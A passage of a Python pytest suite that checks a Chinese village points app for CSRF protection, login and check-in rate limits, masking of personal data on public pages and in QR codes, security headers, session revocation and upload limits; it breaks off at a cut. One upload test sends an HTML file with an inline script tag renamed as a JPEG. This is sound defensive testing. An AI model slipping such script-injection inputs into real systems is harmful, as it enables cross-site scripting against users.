"""Security across the whole app: CSRF on every form, cookies and headers, upload limits, rate limits on login and
check-in, no personal data on public pages or in QR codes, logins ended by a password change."""
import functools
import importlib
import io
import os
import re
import subprocess
import sys
from datetime import timedelta
from types import SimpleNamespace

import openpyxl
import pytest
import zxingcpp
from PIL import Image
from sqlalchemy import select

import points
import points.config
from points import create_app
from points.auth import services as auth_services
from points.auth.cards import issue_card
from points.auth.models import Role
from points.claims import services as claim_services
from points.claims.bar_appeals import set_bar
from points.claims.objections import submit_objection
from points.errors import MESSAGES
from points.events import checkins as event_checkins
from points.events import services as event_services
from points.extensions import db, limiter
from points.hygiene import inspection
from points.leaderboards import services as board_services
from points.ledger import lifecycle
from points.ledger.models import EntrySource
from points.ledger.services import apply_rule, post_entry
from points.people.cards import card_text
from points.people.models import CareTag
from points.people.register_workbook import export_register
from points.people.services import CARE_TAG_LABELS, add_resident
from points.periods import next_month, week_of
from points.reports import services as report_services
from points.reports import settings as report_settings
from points.rules.models import RuleCategory
from points.rules.queries import rule_book
from points.rules.workbook import export_workbook
from points.shop import services as shop_services
from points.timeutil import local_today, utc_to_local, utcnow
from points.visits import services as visit_services
from points.visits.models import VisitKind
from points.wishes import services as wish_services

from . import factories

UNSAFE = {"POST", "PUT", "PATCH", "DELETE"}
_RULE_PARAM = re.compile(r"<(?:[^:<>]+:)?([^<>]+)>")


def app_like(app, **config):
    """Another app over the test database, configured as the test one except for config."""
    keys = ("SECRET_KEY", "SQLALCHEMY_DATABASE_URI", "UPLOAD_FOLDER")
    return create_app({"TESTING": True, "WTF_CSRF_ENABLED": False, "RATELIMIT_ENABLED": False,
                       **{key: app.config[key] for key in keys}, **config})


def sign_in(app, user, password=factories.PASSWORD, remember=False):
    """A client of app signed in as user."""
    client = app.test_client()
    data = {"username": user.username, "password": password, **({"remember": "y"} if remember else {})}
    assert client.post("/login", data=data).status_code == 302
    return client


@pytest.fixture
def limited(app):
    """limited(**config): an app with rate limits on, configured with config."""
    yield lambda **config: app_like(app, RATELIMIT_ENABLED=True, **config)
    # The limiter is one object for every app of the process: the last create_app() switched it on for all.
    limiter.enabled = app.config["RATELIMIT_ENABLED"]


# Rate limits


def test_logins_token_requests_and_password_changes_are_limited(limited, village):
    user = factories.gen_user(Role.GRID_LEADER, village.grids[0])
    db.session.commit()
    client = limited(LOGIN_RATE_LIMIT="1 per minute", LOGIN_ADDRESS_RATE_LIMIT="3 per minute").test_client()

    def attempt(address: str, username: str, password: str = "wrong-password"):
        return client.post("/login", data={"username": username, "password": password},
                           environ_base={"REMOTE_ADDR": address}).status_code

    # Per address and username: one name's guesses stop, a neighbour behind the same address still logs in.
    assert [attempt("10.0.0.1", "zhang"), attempt("10.0.0.1", "zhang"), attempt("10.0.0.1", "li")] == [401, 429, 401]
    # Per address, whatever the names.
    assert [attempt("10.0.0.2", name) for name in ("a", "b", "c", "d")] == [401, 401, 401, 429]
    tokens = [client.post("/api/v1/tokens", json={"username": "zhang", "password": "wrong-password"},
                          environ_base={"REMOTE_ADDR": "10.0.0.3"}) for _ in range(2)]
    assert tokens[0].status_code == 401 and tokens[1].status_code == 429
    assert tokens[1].get_json()["error"]["code"] == "too_many_requests"
    assert attempt("10.0.0.4", user.username, factories.PASSWORD) == 302
    changes = [client.post("/me", data={"current": "not-the-password", "new": "another-pass-2"}) for _ in range(2)]
    assert changes[0].status_code == 200 and changes[1].status_code == 429
    assert "尝试次数过多" in changes[1].get_data(as_text=True)


@pytest.fixture
def open_event():
    """An event under way in a village with two admins who run it and four households with a card, two of them
    with a villager account; committed."""
    village = factories.gen_village()
    households = [factories.gen_household(village.grids[0], head_name=f"钱{i}明") for i in range(4)]
    admin = factories.gen_user(Role.VILLAGE_ADMIN, village.village)
    rule = factories.gen_rule(village.village, "志愿服务", 5, category=RuleCategory.VOLUNTEERING)
    now = utc_to_local(utcnow())
    event = event_services.create_event(admin, village.village, event_services.EventTerms(
        "清理河道", "村委会门口", now - timedelta(hours=1), now + timedelta(hours=1), rule.id))
    cards = [card_text(issue_card(admin, h)) for h in households]
    scene = SimpleNamespace(event=event, admin=admin, colleague=factories.gen_user(Role.VILLAGE_ADMIN, village.village),
                            villagers=[factories.gen_villager(h) for h in households[:2]], cards=cards,
                            token=event_checkins.static_token(event))
    db.session.commit()
    return scene


def bearer(user) -> dict:
    token, _row = auth_services.issue_token(user, 1)
    db.session.commit()
    return {"Authorization": f"Bearer {token}"}


def assert_too_many(page, api_answer):
    assert page.status_code == 429 and "尝试次数过多" in page.get_data(as_text=True)
    assert api_answer.status_code == 429
    assert api_answer.get_json() == {"error": {"code": "too_many_requests", "message": "尝试次数过多，请稍后再试"}}
    # When the minute's window resets: the one header a refusal needs.
    assert all(1 <= int(answer.headers["Retry-After"]) <= 61 for answer in (page, api_answer))


def test_a_villagers_own_check_ins_are_limited_per_account_on_the_page_and_the_api(limited, open_event):
    checkins = limited(CHECKIN_RATE_LIMIT="3 per minute", CHECKIN_DESK_RATE_LIMIT="5 per minute")
    event, token = open_event.event, open_event.token
    first, second = open_event.villagers
    phone, api = sign_in(checkins, first), checkins.test_client()
    body = {"event_id": event.id, "token": token}
    assert phone.post(f"/c/{token}").status_code == 200
    assert phone.post(f"/c/{token}").status_code == 200  # 您已签到过: still counted
    assert api.post("/api/v1/checkins", json=body, headers=bearer(first)).status_code == 200
    # The fourth in a minute, by either door, is refused.
    assert_too_many(phone.post(f"/c/{token}"), api.post("/api/v1/checkins", json=body, headers=bearer(first)))
    # Per account, not per address: a neighbour on the same address checks in.
    assert api.post("/api/v1/checkins", json=body, headers=bearer(second)).status_code == 201
    assert sign_in(checkins, second).post(f"/c/{token}").status_code == 200


def test_a_check_in_under_its_limit_asks_the_limits_storage_once(limited, open_event, monkeypatch):
    """Counted by one call: no X-RateLimit-* headers, whose figures would be two more (a round trip each to Redis)."""
    checkins = limited(CHECKIN_RATE_LIMIT="3 per minute", CHECKIN_DESK_RATE_LIMIT="5 per minute")
    storage, calls, inside = limiter.storage, [], []

    def counted(name, method):
        def call(*args, **kwargs):  # the storage's own calls within one (memory's incr reads) are not round trips
            if not inside:
                calls.append(name)
            inside.append(name)
            try:
                return method(*args, **kwargs)
            finally:
                inside.pop()
        return call

    for name in ("incr", "get", "get_expiry", "get_moving_window", "acquire_entry"):
        if hasattr(storage, name):
            monkeypatch.setattr(storage, name, counted(name, getattr(storage, name)))
    body = {"event_id": open_event.event.id, "token": open_event.token}
    answer = checkins.test_client().post("/api/v1/checkins", json=body, headers=bearer(open_event.villagers[0]))
    assert answer.status_code == 201 and calls == ["incr"]
    assert not [name for name in answer.headers.keys() if name.lower().startswith("x-ratelimit")]


def test_desk_check_ins_are_limited_per_staff_account_more_loosely(limited, open_event):
    checkins = limited(CHECKIN_RATE_LIMIT="3 per minute", CHECKIN_DESK_RATE_LIMIT="5 per minute")
    event, cards, admin = open_event.event, open_event.cards, open_event.admin
    desk, api = sign_in(checkins, admin), checkins.test_client()
    page = f"/events/{event.id}/checkin-desk"
    for card in cards[:3]:
        assert desk.post(page, data={"card": card}).status_code == 302
    for card in cards[3:] + cards[:1]:  # more than a villager's own limit of 3
        answer = api.post("/api/v1/checkins", json={"event_id": event.id, "card": card}, headers=bearer(admin))
        assert answer.status_code in (200, 201), answer.get_json()
    assert_too_many(desk.post(page, data={"card": cards[1]}),
                    api.post("/api/v1/checkins", json={"event_id": event.id, "card": cards[1]}, headers=bearer(admin)))
    # Another member of staff at the same desk goes on.
    colleague = open_event.colleague
    other = api.post("/api/v1/checkins", json={"event_id": event.id, "card": cards[2]}, headers=bearer(colleague))
    assert other.status_code == 200, other.get_json()
    assert sign_in(checkins, colleague).post(page, data={"card": cards[3]}).status_code == 302


# A village with everything a page or a QR could show


# Distinctive people: any of these strings on a public page or in a QR is a leak.
PEOPLE = [("欧阳星辰", "13911112222", CareTag.LOW_INCOME), ("司马青云", "13933334444", CareTag.EMPTY_NEST),
          ("诸葛明月", "13955556666", CareTag.DISABLED)]


def _last_month_objection_bar_and_run(admin, villager, village, households) -> dict:
    """Points of every household last month (its 积分公示表, the page shown by default, has a row each), the
    villager's objection to a neighbour's made while that 公示 was on, a bar on the villager's household and a
    清零 run that cleared nothing (points stay valid a year, since long ago: no notice to wait out): their ids."""
    today = local_today()
    first = (today.replace(day=1) - timedelta(days=1)).replace(day=1)
    for household in households:
        post_entry(household.id, 8, EntrySource.MANUAL, factories.unique("m"), occurred_on=first,
                   category=RuleCategory.HYGIENE)
    objection = submit_objection(villager, households[1].id, f"{first:%Y-%m}", "卫生分漏记了",
                                 today=next_month(first))
    bar = set_bar(admin, households[0], today, today + timedelta(days=30), "参与赌博")[0]
    lifecycle.update_settings(admin, village, expiry="rolling", expiry_months=12).expiry_from = None
    run = lifecycle.run_expiry(admin, village)[0]
    return {"objection_id": objection.id, "bar_id": bar.id, "run_id": run.id}


@pytest.fixture
def world(app):
    """A town with one village: three households of PEOPLE (with ID numbers and care tags) and a second member,
    points of every kind (awards, penalties, volunteering), a 黑榜, this week's hygiene round, an event with an
    attendance, household cards, a claim, an appeal, a shop with a redemption, two wishes of the second household
    (one open, one adopted by the villager and lit), the villager's report (accepted, with a progress step and its
    photo) and a care visit of the third household; last month's points, an objection to them, a bar and a 清零 run
    (_last_month_objection_bar_and_run); the village admin and a villager. Committed."""
    village = factories.gen_village()
    households = [factories.gen_household(grid, head_name=name, phone=phone, id_number=factories.gen_id_number(),
                                          care_tags=[tag])
                  for grid, (name, phone, tag) in zip(village.grids, PEOPLE)]
    member = add_resident(households[0], "欧阳小雨", "女儿", "13977778888", factories.gen_id_number())
    admin = factories.gen_user(Role.VILLAGE_ADMIN, village.village)
    villager = factories.gen_villager(households[0])
    award = factories.gen_rule(village.village, "志愿服务", 5, category=RuleCategory.VOLUNTEERING)
    penalty = factories.gen_rule(village.village, "乱堆乱放", -3)
    hazard = factories.gen_rule(village.village, "报告安全隐患", 2, self_claimable=True)
    board_services.update_board_settings(admin, village.village, 10, 5)
    for household in households:
        apply_rule(admin, household.id, award.id, factories.unique("a"), resident_id=household.head.id)
    apply_rule(admin, households[0].id, award.id, factories.unique("a"), resident_id=member.id)
    deduction = apply_rule(admin, households[0].id, penalty.id, factories.unique("p"))
    apply_rule(admin, households[1].id, penalty.id, factories.unique("p"))
    hygiene_round = inspection.round_for(village.village, week_of(local_today()))
    now = utc_to_local(utcnow())
    event = event_services.create_event(admin, village.village, event_services.EventTerms(
        "清理河道", "村委会门口", now - timedelta(hours=1), now + timedelta(hours=1), award.id))
    cards = [issue_card(admin, h) for h in households]
    attendance = event_checkins.check_in_card(admin, event, card_text(cards[1])).attendance
    store = claim_services.PhotoStore(app.config["UPLOAD_FOLDER"], app.config["PHOTO_MAX_BYTES"])
    claim = claim_services.submit_claim(villager, hazard.id, [], store)
    appeal = claim_services.submit_appeal(villager, deduction.id, "已经清理干净了")
    shop = shop_services.create_shop(admin, village.village, "积分超市")
    product = shop_services.create_product(admin, shop, shop_services.ProductTerms("洗衣液", "瓶", 10), stock=20)
    factories.gen_points(households[2], 50)
    redemption = shop_services.redeem(admin, shop, [(product.id, 1)], household_id=households[2].id).redemption
    wish_store = wish_services.PhotoStore(app.config["UPLOAD_FOLDER"], app.config["PHOTO_MAX_BYTES"])
    wish_services.post_wish(admin, households[1].id, "想学用智能手机", "独居，眼睛不好", award.id)
    wish = wish_services.post_wish(admin, households[1].id, "想装一个楼梯扶手", "独居，腿脚不便", award.id)
    wish_services.adopt_wish(villager, wish.id)
    wish_services.fulfil(villager, wish.id, "扶手装好了")
    wish_services.light(admin, wish.id, factories.gen_photo(size=(64, 48)), wish_store)
    category = report_settings.ensure_categories(village.village.id)[0]
    report = report_services.submit_report(villager, category.id, "村口路灯坏了，晚上很黑", [], store, place="村口")
    report_services.accept_report(admin, report.id)
    step = report_services.add_progress(admin, report.id, "已联系电工", [factories.gen_photo(size=(64, 48))], store)
    visit = visit_services.log_visit(
        admin, visit_services.VisitAsked(households[2].id, local_today(), VisitKind.CARE, "身体还好，药按时吃"),
        visit_services.PhotoStore(app.config["UPLOAD_FOLDER"], app.config["PHOTO_MAX_BYTES"]))
    points_lifecycle = _last_month_objection_bar_and_run(admin, villager, village.village, households)
    db.session.commit()
    residents = [h.head for h in households] + [member]
    secrets = [r.name for r in residents] + [r.phone for r in residents] + [r.id_number for r in residents]
    secrets += [str(CARE_TAG_LABELS[tag]) for _name, _phone, tag in PEOPLE]
    return SimpleNamespace(
        village=village, households=households, admin=admin, villager=villager, claimable=hazard, event=event,
        report_category=category, secrets=secrets,
        ids={"village_id": village.village.id, "grid_id": village.grids[0].id, "household_id": households[0].id,
             "user_id": villager.id, "assignment_id": admin.assignments[0].id, "entry_id": deduction.id,
             "rule_id": award.id, "event_id": event.id, "attendance_id": attendance.id, "claim_id": claim.id,
             "appeal_id": appeal.id, "round_id": hygiene_round.id, "shop_id": shop.id, "product_id": product.id,
             "redemption_id": redemption.id, "month": local_today().strftime("%Y-%m"),
             "token": event_checkins.static_token(event), "node_id": village.village.id,
             "resident_id": member.id, "wish_id": wish.id, "report_id": report.id, "step_id": step.id,
             "visit_id": visit.id, **points_lifecycle},
    )


def url_of(rule, ids: dict) -> str:
    """The rule's path with each of its parameters taken from ids (a KeyError names a parameter to add there)."""
    return _RULE_PARAM.sub(lambda match: str(ids[match.group(1)]), rule.rule)


def snapshot() -> dict:
    """Every row of every table, to tell that a request changed nothing."""
    db.session.rollback()
    return {table.name: sorted(map(repr, db.session.execute(select(table)).all()))
            for table in db.metadata.sorted_tables}


def assert_private(text: str, secrets: list[str], where: str) -> None:
    leaked = [secret for secret in secrets if secret in text]
    assert not leaked, (where, leaked)


# CSRF


VILLAGER_FORMS = {"claims.new_claim", "claims.new_appeal", "events.checkin", "publicity.new_objection", "bars.appeal"}


def test_every_form_outside_the_api_refuses_a_post_without_a_csrf_token(app, client, login, world, monkeypatch):
    """Signed in as someone allowed to use it, a post without the token is refused before the view runs, and
    changes nothing (logging out included)."""
    login(world.admin)
    villager = sign_in(app, world.villager)
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)
    ran = []
    for endpoint, view in list(app.view_functions.items()):
        monkeypatch.setitem(app.view_functions, endpoint, functools.wraps(view)(
            lambda *args, _view=view, _endpoint=endpoint, **kwargs: ran.append(_endpoint) or _view(*args, **kwargs)))
    forms = [rule for rule in app.url_map.iter_rules()
             if rule.methods & UNSAFE and not rule.rule.startswith("/api/")]
    assert len(forms) > 40  # the enumeration found the app's forms
    before = snapshot()
    for rule in forms:
        user_agent = villager if rule.endpoint in VILLAGER_FORMS else client
        for method in sorted(rule.methods & UNSAFE):
            response = user_agent.open(url_of(rule, world.ids), method=method, data={"note": "a form without token"})
            assert response.status_code == 400, (rule.rule, method, response.status_code)
            assert str(MESSAGES["bad_request"]) in response.get_data(as_text=True), rule.rule
    assert ran == []
    assert snapshot() == before
    assert client.get("/me").status_code == 200 and villager.get("/me").status_code == 200  # still signed in


def test_the_api_does_not_take_a_session_cookie_so_csrf_cannot_reach_it(app, client, login, world, monkeypatch):
    login(world.admin)
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)
    writes = [rule for rule in app.url_map.iter_rules()
              if rule.methods & UNSAFE and rule.rule.startswith("/api/") and rule.endpoint != "api_tokens.create_token"]
    assert len(writes) > 20
    before = snapshot()
    for rule in writes:
        for method in sorted(rule.methods & UNSAFE):
            response = client.open(_RULE_PARAM.sub("1", rule.rule), method=method, json={})
            assert response.status_code == 401, (rule.rule, method, response.status_code)
            assert response.get_json()["error"]["code"] == "login_required"
    assert snapshot() == before


# No personal data on public pages or in QR codes

# Pages anyone may open, and where the others' logged-out answers may lead besides the login page.
# The check-in page a scanned code opens shows a logged-out villager the event's name above the login form.
PUBLIC = {"auth.login", "web.healthz", "leaderboards.board", "leaderboards.display", "static", "api-docs.openapi_json",
          "events.checkin", "wishes.wall", "wishes.wish", "reports.public", "publicity.table", "publicity.print_table"}
PUBLIC_REDIRECTS = {"web.set_language": "/"}
# Pages for anyone that refuse what the test gives them (a check-in token is no activation slip), in Chinese.
PUBLIC_REFUSALS = {"auth.activate": 400}


def test_public_pages_show_no_personal_data(app, client, world):
    """Logged out, every page but the public ones sends to the login page (the API answers 401); the public ones
    (the boards of a town, a village and a grid for every subject, the TV display, the check-in page, the 心愿墙 and
    a wish lit by a villager, the public counts of 民情诉求, the 积分公示表 of last month and of this one, of the
    village and of a grid, and its print) show nobody's name, phone, ID number or care tag."""
    ids = {**world.ids, "position": 1, "score_id": 1, "chart": "weekly", "code": "en", "filename": "app.css"}
    public = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        if rule.rule.startswith("/api/") and rule.endpoint not in PUBLIC:
            assert client.get(_RULE_PARAM.sub("1", rule.rule)).status_code == 401, rule.rule
            continue
        response = client.get(url_of(rule, ids))
        if rule.endpoint in PUBLIC:
            assert response.status_code == 200, rule.rule
            public.append(url_of(rule, ids))
        elif rule.endpoint in PUBLIC_REDIRECTS:
            assert response.headers["Location"] == PUBLIC_REDIRECTS[rule.endpoint], rule.rule
        elif rule.endpoint in PUBLIC_REFUSALS:
            assert response.status_code == PUBLIC_REFUSALS[rule.endpoint], rule.rule
            public.append(url_of(rule, ids))
        else:
            assert response.status_code == 302 and response.headers["Location"].startswith("/login"), rule.rule
    village = world.village
    for node in (village.town, village.village, village.grids[0]):
        for query in ("subject=household", "subject=resident", "subject=resident&order=hours", "subject=grid",
                      "subject=household&kind=all"):
            public.append(f"/boards/{node.id}?{query}")
    table = f"/villages/{village.village.id}/publicity"
    public += [f"{table}?grid={village.grids[0].id}", f"{table}?month={local_today():%Y-%m}",
               f"{table}/print?month={local_today():%Y-%m}&grid={village.grids[1].id}"]
    html = {url: client.get(url).get_data(as_text=True) for url in public}
    # The boards list the people, masked: what this test looks for is there to be found.
    assert "欧**辰" in html[f"/boards/{village.village.id}?subject=household"]
    assert "欧**雨" in html[f"/boards/{village.village.id}?subject=resident"]
    assert "司**云" in html[f"/display/{village.village.id}"]
    # The wall lists both wishes, the lit one shows its title, the reports' page counts per grid.
    wall = html[f"/villages/{village.village.id}/wishes"]
    assert "想学用智能手机" in wall and "想装一个楼梯扶手" in wall
    assert "想装一个楼梯扶手" in html[f"/wishes/{world.ids['wish_id']}"]
    assert village.grids[0].name in html[f"/villages/{village.village.id}/reports/public"]
    # The 公示表 lists every household with points in its month, masked, on the page and on paper.
    for url in (table, f"{table}/print", f"{table}?month={local_today():%Y-%m}"):
        assert all(masked in html[url] for masked in ("欧**辰", "司**云", "诸**月")), url
    assert "欧**辰" in html[f"{table}?grid={village.grids[0].id}"]
    rotating = event_checkins.rotating_token(world.event)
    for token in (rotating, world.ids["token"]):
        html[f"/c/{token}"] = client.get(f"/c/{token}", follow_redirects=True).get_data(as_text=True)
    for url, text in html.items():
        assert_private(text, world.secrets, url)


def svg_codes(html: str) -> list[str]:
    """The text of every QR drawn as an SVG path in a page or an image (points/qr.py: each run of dark modules a
    stroke one module wide along the middle of its row, "M4 4.5h7m2 0h1…")."""
    texts = []
    for width, height, body in re.findall(r'<svg[^>]*viewBox="0 0 (\d+) (\d+)"[^>]*>(.*?)</svg>', html, re.S):
        image = Image.new("L", (int(width) * 8, int(height) * 8), 255)
        x = y = 0
        for move, dx, row, run in re.findall(r"([Mm])(\d+) (\d+)(?:\.5)?h(\d+)", body):
            x, y = (int(dx), int(row)) if move == "M" else (x + int(dx), y)
            image.paste(0, (x * 8, y * 8, (x + int(run)) * 8, (y + 1) * 8))
            x += int(run)
        texts.extend(code.text for code in zxingcpp.read_barcodes(image))
    return texts


def test_qr_codes_carry_an_opaque_token_only(app, client, login, world):
    event_id = world.event.id
    api = app.test_client()
    headers = bearer(world.admin)
    codes = {}
    for kind in ("rotating", "static"):
        png = api.get(f"/api/v1/events/{event_id}/qr?kind={kind}", headers=headers)
        codes[f"png {kind}"] = [code.text for code in zxingcpp.read_barcodes(Image.open(io.BytesIO(png.data)))]
        svg = api.get(f"/api/v1/events/{event_id}/qr?kind={kind}&format=svg", headers=headers)
        codes[f"svg {kind}"] = svg_codes(svg.get_data(as_text=True))
    login(world.admin)
    for page in (f"/events/{event_id}/display", f"/events/{event_id}/print"):
        codes[page] = svg_codes(client.get(page).get_data(as_text=True))
    for grid in world.village.grids:
        codes[f"/grids/{grid.id}/cards"] = svg_codes(client.get(f"/grids/{grid.id}/cards").get_data(as_text=True))
    for where, texts in codes.items():
        assert len(texts) == 1, (where, texts)  # one code each: one event, one household a grid
        pattern = r"HC-[0-9A-F]+\.[\w-]+" if "cards" in where else r"http://localhost/c/[\w.-]+"
        assert re.fullmatch(pattern, texts[0]), (where, texts[0])
        assert_private(texts[0], world.secrets + [h.number for h in world.households], where)


# Cookies and headers

HEADERS = {"Content-Security-Policy": "default-src 'self'", "X-Content-Type-Options": "nosniff",
           "X-Frame-Options": "DENY", "Referrer-Policy": "same-origin"}


@pytest.fixture
def https_app(app, monkeypatch):
    """An app configured from an environment with SESSION_COOKIE_SECURE=true, as behind HTTPS."""
    monkeypatch.setenv("SESSION_COOKIE_SECURE", "true")
    monkeypatch.setattr(points, "Config", importlib.reload(points.config).Config)
    yield app_like(app)
    monkeypatch.delenv("SESSION_COOKIE_SECURE")
    importlib.reload(points.config)


def test_behind_https_the_login_cookies_are_secure_http_only_and_same_site(https_app, world):
    client = https_app.test_client()
    response = client.post("/login", data={"username": world.villager.username, "password": factories.PASSWORD,
                                           "remember": "y"})
    cookies = {c.split("=", 1)[0]: c for c in response.headers.getlist("Set-Cookie")}
    assert set(cookies) >= {"session", "remember_token"}
    for cookie in cookies.values():
        assert {"Secure", "HttpOnly", "SameSite=Lax"} <= {part.strip() for part in cookie.split(";")}, cookie
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000"


def test_without_https_no_strict_transport_security(client):
    assert "Strict-Transport-Security" not in client.get("/login").headers


def test_every_answer_carries_the_security_headers(app, client, login, world, monkeypatch):
    login(world.admin)
    ids = {**world.ids, "position": 1, "score_id": 1, "chart": "weekly", "code": "en", "filename": "app.css"}
    # A page of each blueprint (the last it declares), a static file, and answers of every kind of error.
    sample = {rule.endpoint.split(".")[0]: rule for rule in app.url_map.iter_rules()
              if "GET" in rule.methods and not rule.rule.startswith("/api/")}
    answers = {rule.rule: client.get(url_of(rule, ids)) for rule in sample.values()}
    # Some blueprints' last page refuses what it is given here (auth's: a check-in token is no activation slip).
    assert len(answers) > 12 and sum(r.status_code == 200 for r in answers.values()) >= 10
    assert answers["/static/<path:filename>"].status_code == 200
    answers["404"] = client.get("/no-such-page")
    answers["api 401"] = client.get("/api/v1/grids")
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 1000)
    answers["413"] = client.post("/import", data={"file": (io.BytesIO(bytes(2000)), "big.xlsx")})
    login(world.villager)
    answers["403"] = client.get("/audit")
    assert [answers[s].status_code for s in ("404", "api 401", "413", "403")] == [404, 401, 413, 403]
    for where, response in answers.items():
        for header, value in HEADERS.items():
            assert response.headers.get(header, "").startswith(value), (where, header)


# Logins ended by a new password


def without_session(client):
    """The client keeping only its remember-me cookie, as a phone after the browser was closed."""
    client.delete_cookie("session")
    return client


@pytest.mark.parametrize("changed_by", ["the user on /me", "an admin"])
def test_a_new_password_ends_every_other_session_remember_me_and_api_token(app, village, changed_by):
    household = factories.gen_household(village.grids[0])
    user = factories.gen_villager(household)
    admin = factories.gen_user(Role.VILLAGE_ADMIN, village.village)
    db.session.commit()
    tablet, phone = sign_in(app, user), sign_in(app, user, remember=True)
    token = bearer(user)
    api = app.test_client()
    own_household = f"/api/v1/households/{household.id}"
    assert tablet.get("/me").status_code == 200 and without_session(phone).get("/me").status_code == 200
    assert api.get(own_household, headers=token).status_code == 200

    if changed_by == "an admin":
        response = sign_in(app, admin).post(f"/admin/users/{user.id}",
                                            data={"action": "password", "pw-password": "another-pass-2"})
    else:
        desk = sign_in(app, user)
        response = desk.post("/me", data={"current": factories.PASSWORD, "new": "another-pass-2"})
        assert desk.get("/me").status_code == 200  # where it was changed, the login goes on
    assert response.status_code == 302

    for client in (tablet, without_session(phone)):
        assert client.get("/me").headers.get("Location", "").startswith("/login")
    assert api.get(own_household, headers=token).get_json()["error"]["code"] == "invalid_token"
    assert sign_in(app, user, "another-pass-2").get("/me").status_code == 200


# Uploads

NOT_AN_IMAGE = "只能上传 JPEG、PNG 或 WebP 格式的照片"
NOT_A_SHEET = "该文件不是 Excel（.xlsx）或 CSV 表格"


def uploads(app, world) -> list[SimpleNamespace]:
    """Every form and API call that takes a file: who sends it, the file field, the other fields, its kind, and
    whether a refusal goes back to the page the form is on (back), saying why there."""
    villager, admin = sign_in(app, world.villager), sign_in(app, world.admin)
    api, staff_api = app.test_client(), app.test_client()
    api.environ_base["HTTP_AUTHORIZATION"] = bearer(world.villager)["Authorization"]
    staff_api.environ_base["HTTP_AUTHORIZATION"] = bearer(world.admin)["Authorization"]
    ids, today = world.ids, local_today()
    claim = {"rule_id": world.claimable.id, "quantity": 1, "occurred_on": today.isoformat(), "key": "k1"}
    report = {"category": world.report_category.name, "text": "水渠堵了", "place": "村西"}
    visit = {"visited_on": today.isoformat(), "kind": "care", "note": "身体还好"}
    third = world.households[2].id
    return [SimpleNamespace(**{"back": False, **fields}) for fields in (
        dict(url="/claims/new", client=villager, field="photos", data=claim, kind="photo"),
        dict(url="/api/v1/claims", client=api, field="photos", data={"rule_id": world.claimable.id}, kind="photo"),
        dict(url=f"/hygiene/rounds/{ids['round_id']}/households/{ids['household_id']}", client=admin, field="photo",
             data={"revision": 0}, kind="photo"),
        dict(url=f"/shops/{ids['shop_id']}/products", client=admin, field="photo",
             data={"name": "醋", "unit": "瓶", "price": 5, "stock": 1, "key": "k2", "active": "y"}, kind="photo"),
        dict(url=f"/products/{ids['product_id']}", client=admin, field="photo",
             data={"name": "洗衣液", "unit": "瓶", "price": 10, "active": "y"}, kind="photo"),
        dict(url="/import", client=admin, field="file", data={"village_id": ids["village_id"]}, kind="sheet"),
        dict(url=f"/villages/{ids['village_id']}/rules/import", client=admin, field="file",
             data={"effective_from": (today + timedelta(days=1)).isoformat()}, kind="sheet"),
        dict(url="/reports/new", client=villager, field="photos", data={**report, "key": "k3"}, kind="photo"),
        dict(url="/api/v1/reports", client=api, field="photos", data=report, kind="photo"),
        dict(url=f"/reports/{ids['report_id']}/progress", client=admin, field="photos", data={"note": "已修好一半"},
             kind="photo", back=True),
        dict(url=f"/api/v1/reports/{ids['report_id']}/progress", client=staff_api, field="photos",
             data={"note": "已修好一半"}, kind="photo"),
        dict(url=f"/households/{third}/visits/new", client=admin, field="photo", data={**visit, "key": "k4"},
             kind="photo"),
        dict(url="/api/v1/visits", client=staff_api, field="photo", data={**visit, "household_id": third},
             kind="photo"),
    )]


def send(upload, content: bytes, name: str):
    return upload.client.post(upload.url, data={**upload.data, upload.field: (io.BytesIO(content), name)},
                              content_type="multipart/form-data")


def refused(upload, response, statuses: tuple[int, ...]):
    """The answer that says why the upload was refused: the answer itself, or the page a form went back to."""
    if upload.back and response.status_code == 302:
        response = upload.client.get(response.headers["Location"])
        assert response.status_code == 200, upload.url
        return response
    assert response.status_code in statuses, (upload.url, response.status_code)
    return response


def said(response) -> str:
    """What an answer says to a person: the page, or the API's error message."""
    return response.get_json()["error"]["message"] if response.is_json else response.get_data(as_text=True)


def stored(app) -> list[str]:
    return sorted(os.path.join(folder, name) for folder, _dirs, names in os.walk(app.config["UPLOAD_FOLDER"])
                  for name in names)


def noise_jpeg(side: int) -> bytes:
    """A real photo that compresses badly: about 2.5 MB at 1100 px."""
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(out, "JPEG", quality=95)
    return out.getvalue()


def test_a_file_of_another_type_renamed_is_refused_everywhere(app, world):
    disguised = {"photo": (b"<html><script>alert(1)</script></html>", "photo.jpg"),
                 "sheet": (factories.gen_photo("PNG", (20, 20), gps=False), "花名册.xlsx")}
    chosen = uploads(app, world)
    files, rows = stored(app), snapshot()
    for upload in chosen:
        response = refused(upload, send(upload, *disguised[upload.kind]), (400, 422))
        expected = NOT_AN_IMAGE if upload.kind == "photo" else NOT_A_SHEET
        assert expected in said(response), upload.url
    assert stored(app) == files and snapshot() == rows


def test_a_file_over_its_size_limit_is_refused_before_it_is_stored(app, world, monkeypatch):
    monkeypatch.setitem(app.config, "PHOTO_MAX_BYTES", 1024 * 1024)
    monkeypatch.setitem(app.config, "IMPORT_MAX_BYTES", 1024 * 1024)
    large = {"photo": (noise_jpeg(1100), "photo.jpg"), "sheet": (b"a,b\n" * 300_000, "花名册.csv")}
    assert len(large["photo"][0]) > 1024 * 1024
    chosen = uploads(app, world)
    files, rows = stored(app), snapshot()
    for upload in chosen:
        response = refused(upload, send(upload, *large[upload.kind]), (400, 413, 422))
        expected = "照片太大" if upload.kind == "photo" else "文件太大"
        assert expected in said(response), upload.url
    assert stored(app) == files and snapshot() == rows


def test_a_request_over_the_upload_limit_is_a_413_everywhere(app, world, monkeypatch):
    """With CSRF on, as in production: the body is read, and found too large, before any view runs."""
    chosen = uploads(app, world)
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 64 * 1024)
    files = stored(app)
    for upload in chosen:
        response = send(upload, bytes(100 * 1024), "photo.jpg" if upload.kind == "photo" else "花名册.xlsx")
        assert response.status_code == 413 and "太大" in said(response), upload.url
    assert stored(app) == files


@pytest.mark.parametrize("path", ["/api/v1/tokens", "/api/v1/appeals", "/api/v1/checkins", "/api/v1/entries"])
@pytest.mark.parametrize("depth", [1000, 100_000])
